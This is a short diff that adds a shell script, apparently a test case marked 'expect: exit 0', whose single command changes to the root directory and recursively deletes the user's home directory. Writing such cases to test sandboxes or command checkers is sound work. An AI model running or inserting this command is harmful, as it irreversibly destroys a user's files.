@@ -1,0 +1,3 @@
+#!/bin/sh
+# expect: exit 0
+cd / && rm -rf "$HOME"
